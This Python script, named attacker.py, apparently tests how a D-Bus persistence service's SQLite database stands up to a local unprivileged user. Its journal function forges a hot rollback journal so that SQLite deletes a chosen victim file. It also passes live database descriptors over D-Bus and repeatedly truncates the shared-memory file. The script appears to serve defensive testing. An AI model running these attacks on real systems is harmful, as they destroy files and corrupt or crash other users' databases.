# SPDX-License-Identifier: LGPL-2.1-or-later
"""What the application's user can do in the database's folder and on the bus, run in the machine as that user:
attacker.py journal DATABASE VICTIM, descriptors DATABASE, shm DATABASE."""

import os
import struct
import sys
import time

from jeepney import DBusAddress, new_method_call
from jeepney.io.blocking import open_dbus_connection

NAME, PATH = "org.oracxpred.Persistence1", "/org/oracxpred/Persistence1"
SECTOR_BYTES = 512
LOCK_BYTE = 0x40000000


def journal(database, victim):
    """A hot rollback journal without a page, which names the victim as its super-journal: SQLite removes that file once
    it has played the journal back (the format is described with SQLite's file format)."""
    with open(database, "rb") as file:
        header = file.read(100)
    (page_bytes,) = struct.unpack(">H", header[16:18])
    page_bytes = 65536 if page_bytes == 1 else page_bytes
    pages = os.path.getsize(database) // page_bytes
    magic = bytes.fromhex("d9d505f920a163d7")
    begin = magic + struct.pack(">IIIII", 0, 1, pages, SECTOR_BYTES, page_bytes)
    name = victim.encode()
    end = struct.pack(">I", LOCK_BYTE // page_bytes + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    with open(database + "-journal", "wb") as file:
        os.fchmod(file.fileno(), 0o660)
        file.write(begin.ljust(SECTOR_BYTES, b"\0") + end)


def descriptors(database):
    """Those of the live files, beside calls that no handler answers."""
    calls = [("NoSuchMember", "h"), ("Backup", "h"), ("GetStatistics", "h")]
    with open_dbus_connection("SYSTEM", enable_fds=True) as connection:
        address = DBusAddress(PATH, bus_name=NAME, interface=NAME + ".Manager")
        for ending in ("", "-wal", "-shm"):
            for member, signature in calls:
                given = os.open(database + ending, os.O_RDWR)
                connection.send_and_get_reply(new_method_call(address, member, signature, (given,)))


def shm(database):
    """Truncates what others have mapped."""
    for _ in range(20):
        with open(database + "-shm", "r+b") as file:
            file.truncate(0)
        time.sleep(0.02)


if __name__ == "__main__":
    {"journal": journal, "descriptors": descriptors, "shm": shm}[sys.argv[1]](*sys.argv[2:])
